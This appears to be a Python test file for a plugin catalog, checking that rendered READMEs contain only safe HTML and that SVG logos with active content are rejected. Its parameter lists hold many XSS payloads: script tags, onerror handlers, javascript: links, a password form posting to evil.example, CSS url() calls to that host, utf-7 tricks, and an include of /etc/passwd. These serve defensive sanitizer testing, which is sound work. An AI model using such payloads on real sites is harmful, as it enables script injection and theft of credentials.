"""Readmes and logos are untrusted: whatever they contain, the HTML has only harmless elements."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from commonhold.catalog.logo_check import logo_problem
from commonhold.catalog.site.readme_html import render_text
from tests.catalog.built_sites import PageReader

BASE = "https://git.example/octo/plugins/tree/main/spark"
HARMLESS = {
    *("p", "br", "hr", "div", "span", "pre", "blockquote", "ul", "ol", "li", "dl", "dt", "dd", "details", "summary"),
    *(
        "strong",
        "em",
        "b",
        "i",
        "u",
        "s",
        "del",
        "ins",
        "sub",
        "sup",
        "code",
        "kbd",
        "samp",
        "var",
        "tt",
        "abbr",
        "cite",
    ),
    *("q", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption", "a", "h1", "h2", "h3", "h4", "h5", "h6"),
}
ATTRIBUTES = {"href", "rel", "class", "id", "tabindex", "role", "aria-label", "colspan", "rowspan", "start"}
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,AAAA)",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<style>body { display: none }</style><link rel=stylesheet href=//evil.example>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<div id=search class='note bad' style='position:fixed' onclick=alert(1)>Quarantined</div>",
    "<h1 id=content>x</h1>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='https://ok.example'><img src='https://ok.example/x.png'></a></div></main></body>",
    "\x1b[31mred\x1b[0m \u202egnp.exe",
    "<<script>script>alert(1)<</script>/script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<video src='https://evil.example/x.mp4' autoplay></video><object data=x></object><embed src=x>",
    "<a href='https://user:secret@evil.example/' target=_blank ping='https://evil.example'>x</a>",
)


def assert_harmless(html: str) -> None:
    read = PageReader(html)
    for tag, values in read.elements:
        assert tag in HARMLESS
        assert values.keys() <= ATTRIBUTES
        assert re.fullmatch(r"(https?://|mailto:|#text-).+", values.get("href", "#text-x"))
        assert values.get("id", "text-").startswith("text-")
        assert tag == "span" or values.get("class", "scroll") in ("scroll", "picture")
        assert len(values.get("class", "")) <= 3 or tag != "span"
    assert not re.search("[\x00-\x08\x0b-\x1f\u202e]", html)


@pytest.mark.parametrize("kind", ["text/markdown", "text/x-rst", "text/plain"])
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_readmes(text: str, kind) -> None:
    assert_harmless(render_text(text, kind, BASE))
    assert_harmless(render_text(f".. raw:: html\n\n   {text}\n\n.. include:: /etc/passwd\n", kind, None))


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<b>", "</a>", "<h2>", "\n\n", "`", "> ", "| a |\n|-|\n", "<", '"', "&lt;"]),
        max_size=6,
    )
)
def test_mixed_hostile_readmes(parts: list[str]) -> None:
    assert_harmless(render_text("".join(parts), "text/markdown", BASE))


@pytest.mark.parametrize(
    "text",
    [
        "|a" * 1900 + "|\n" + "|-" * 1900 + "|\n" + "|x\n" * 20_000,
        "<div>\n" * 30_000,
        "# a\n" * 50_000,
        "> " * 100_000,
        "[a](" * 50_000,
    ],
    ids=["table", "tags", "headings", "quotes", "links"],
)
def test_a_readme_cannot_stop_the_build(text: str) -> None:
    html = render_text(text, "text/markdown", BASE)
    assert_harmless(html)
    assert len(html) < 1_000_000


def test_a_text_that_its_renderer_cannot_read_is_shown_as_it_is() -> None:
    html = render_text("* " * 1500 + "x", "text/x-rst", BASE)
    assert_harmless(html)
    assert "* * *" in html


def test_elements_are_closed() -> None:
    html = render_text("<div><b><a href='https://x.example'>x<a href='https://y.example'>y", "text/markdown", BASE)
    for tag in ("div", "b", "a", "p"):
        assert html.count(f"<{tag}") == html.count(f"</{tag}>")


def test_pictures_become_links_and_relative_links_lead_to_the_source() -> None:
    html = render_text("![A diagram](docs/a.png) [more](docs/more.md) [up](/x)", "text/markdown", BASE)
    assert f'<a class="picture" href="{BASE}/docs/a.png" rel="nofollow ugc noopener">A diagram</a>' in html
    assert f'<a href="{BASE}/docs/more.md" rel="nofollow ugc noopener">more</a>' in html
    assert "<img" not in html
    assert render_text("![A diagram](docs/a.png) [more](more.md)", "text/markdown", None) == "<p>A diagram more</p>\n"


def test_headings_are_shifted_and_links_to_them_work() -> None:
    text = "# spark\n\n[Use it](#use-it)\n\n### Use it\n\n### Use it\n"
    html = render_text(text, "text/markdown", None, skip_titles=("spark",))
    assert html.lstrip().startswith('<p><a href="#text-use-it">Use it</a></p>')
    assert '<h3 id="text-use-it">Use it</h3>' in html
    assert '<h3 id="text-use-it-1">Use it</h3>' in html


def test_code_and_tasks_keep_their_form() -> None:
    html = render_text('```python\nimport x  # "<b>"\n```\n\n- [x] done\n- [ ] open\n', "text/markdown", None)
    assert '<span class="kn">import</span>' in html
    assert "&lt;b&gt;" in html
    assert "☑ done" in html
    assert "☐ open" in html


def test_restructured_text() -> None:
    html = render_text("Title\n=====\n\n`Link <https://x.example>`_ and *text*\n", "text/x-rst", None)
    assert '<a href="https://x.example" rel="nofollow ugc noopener">Link</a>' in html
    assert render_text("Broken `link <x\n====", "text/x-rst", None)


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'


@pytest.mark.parametrize(
    "content",
    [
        "<script>alert(1)</script>",
        '<path d="M0 0" onclick="alert(1)"/>',
        '<path d="M0 0" OnClick="alert(1)"/>',
        "<foreignObject><p>x</p></foreignObject>",
        '<image href="https://evil.example/x.png"/>',
        '<use href="https://evil.example/x.svg#a"/>',
        '<use xlink:href="data:image/svg+xml,x"/>',
        '<a href="javascript:alert(1)"><path d="M0 0"/></a>',
        '<rect fill="url(https://evil.example/x)"/>',
        "<style>@import 'https://evil.example/x.css'</style>",
        "<style>rect { fill: url(//evil.example) }</style>",
        r"<style>rect { fill: \75rl(//evil.example) }</style>",
        '<rect style="background: url(//evil.example)"/>',
        '<animate attributeName="href" to="javascript:alert(1)"/>',
        '<set attributeName="onload" to="alert(1)"/>',
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
        '<g xml:base="https://evil.example/"/>',
        "<handler>x</handler>",
    ],
)
def test_a_logo_that_could_do_something_is_refused(content: str) -> None:
    assert logo_problem(SVG.format(content).encode())


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"<svg",
        b"\x89PNG",
        b"<svg/>",
        b'<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg"/>',
        b'<?xml-stylesheet href="https://evil.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        SVG.format("<g/>").encode("utf-16"),
        SVG.format(" " * 70_000).encode(),
        SVG.format("<script>alert(1)</script>").encode("utf-7"),
        b'<?xml version="1.0" encoding="utf-7"?>' + SVG.format("+ADw-script+AD4-").encode(),
    ],
)
def test_other_files_are_not_logos(data: bytes) -> None:
    assert logo_problem(data)


def test_usual_logos_are_accepted() -> None:
    content = (
        '<defs><linearGradient id="a"><stop offset="0" stop-color="#fff"/></linearGradient>'
        "<style>.b { fill: #123; }</style></defs>"
        '<use href="#a"/><path class="b" fill="url(#a)" style="stroke: #fff" d="M0 0h9"/>'
    )
    assert logo_problem(b'<?xml version="1.0" encoding="UTF-8"?>\n' + SVG.format(content).encode()) is None
